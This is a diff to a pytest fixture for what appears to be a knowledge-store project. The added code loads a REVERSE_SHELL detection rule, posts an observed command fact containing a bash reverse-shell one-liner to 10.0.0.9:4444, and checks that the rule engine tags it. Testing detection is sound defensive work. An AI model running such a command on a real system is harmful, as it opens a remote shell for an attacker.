@@ -28,6 +28,9 @@ from stigmem.tombstones import create_tombstone, revoke_tombstone
 from subscriptions.models import Subscription
 from subscriptions.service import send_test_event
 from tests.federation.helpers import make_remote_peer
+from tests.ttprules.engine_helpers import REVERSE_SHELL, load_rules, run_engine
+from ttprules.models import Tag
+from ttprules.store import set_state
 
 
 @pytest.fixture
@@ -43,7 +46,7 @@ def browser(superuser) -> Client:
 
 
 @pytest.fixture
-def populated(client, superuser):
+def populated(client, superuser, tmp_path):
     """At least one row for every model registered in the admin."""
     for source, value in (("stigmem://test/agent/one", "red"), ("stigmem://test/agent/two", "blue")):
         response = client.post(
@@ -92,7 +95,20 @@ def populated(client, superuser):
     async_task("stigmem.tasks.heartbeat")  # a queued task (ORM broker)
     DecayPolicy.objects.create(tenant="default", name="chat", relation_prefix="chat:", ttl_seconds=86400)
     create_job("default", "decay", params={}, scope=None, dry_run=True, estimated_s=1, created_by="test")
-    assert Fact.objects.count() == 2
+    # A TTP rule with a state change, and a tag (and its ttp:technique fact) from the engine.
+    load_rules(tmp_path / "rules", R1=REVERSE_SHELL)
+    set_state("R1", "shadow", set_by="test")
+    set_state("R1", "enabled", set_by="test")
+    shell = {
+        "entity": "stigmem://test/host/web-1",
+        "relation": "observed:command",
+        "value": {"type": "string", "v": "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"},
+        "source": "stigmem://test/agent/sensor",
+    }
+    assert client.post("/v1/facts", shell, format="json").status_code == 201
+    run_engine()
+    assert Tag.objects.count() == 1
+    assert Fact.objects.count() == 4  # two colors, the command, its ttp:technique fact
     assert Conflict.objects.count() == 1
     assert ApiKey.objects.count() >= 1
     assert NodeIdentity.objects.count() == 1
